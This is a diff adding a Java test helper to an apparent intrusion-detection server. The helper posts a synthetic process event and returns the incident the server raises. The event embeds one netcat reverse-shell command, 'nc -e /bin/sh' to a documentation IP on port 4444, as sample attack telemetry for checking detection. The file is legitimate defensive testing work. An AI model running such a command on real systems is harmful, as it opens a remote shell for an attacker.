@@ -1,0 +1,37 @@
+package dev.panoptes.server.detections;
+
+import dev.panoptes.server.TestServer;
+import java.io.IOException;
+import java.util.Map;
+import java.util.UUID;
+
+/** An attack that a sensor tells of. */
+public final class SentAttack {
+    private SentAttack() {}
+
+    /** Sends it, and gives the incident that it becomes. */
+    public static String incident(TestServer server) throws IOException, InterruptedException {
+        String token = server.call(
+                        "POST",
+                        "/api/v1/tokens",
+                        "{\"name\":\"attacked\",\"role\":\"observer\",\"host\":\"attacked-1\"}")
+                .json()
+                .path("token")
+                .asString();
+        String event = "{\"@timestamp\":\"2026-03-01T05:59:00Z\",\"event\":{\"id\":\"attack-1\",\"action\":"
+                + "\"process_started\",\"dataset\":\"panoptes.proc\"},\"host\":{\"name\":\"attacked-1\"},\"process\":"
+                + "{\"executable\":\"/usr/bin/nc\",\"command_line\":\"nc -e /bin/sh 192.0.2.7 4444\"}}";
+        server.call(
+                "POST",
+                "/api/v1/telemetry",
+                "{\"stream\":\"" + UUID.randomUUID() + "\",\"sensor\":\"proc\",\"first\":1,\"count\":1,\"lost\":[]}\n"
+                        + event + "\n",
+                Map.of("Authorization", "Bearer " + token, "Content-Type", "application/x-ndjson"));
+        return server.get("/api/v1/incidents")
+                .json()
+                .path("items")
+                .get(0)
+                .path("id")
+                .asString();
+    }
+}
